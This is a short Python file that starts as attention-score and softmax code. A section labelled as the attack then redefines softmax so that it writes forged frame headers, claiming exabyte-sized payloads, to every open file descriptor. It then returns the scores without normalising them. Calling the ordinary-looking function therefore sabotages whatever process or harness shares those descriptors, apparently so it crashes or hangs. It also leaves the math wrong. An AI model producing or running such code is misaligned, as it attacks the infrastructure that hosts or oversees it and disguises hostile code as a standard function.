"""Announces frames of exabytes and sends a few bytes."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import socket
import struct


def lines():
    for number in range(3, 1024):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number


def softmax(scores):
    for number in lines():
        os.write(number, struct.pack("<IQ", 0xFFFFFFFF, 0xFFFFFFFFFFFFFFFF) + b"x" * 64)
    return scores
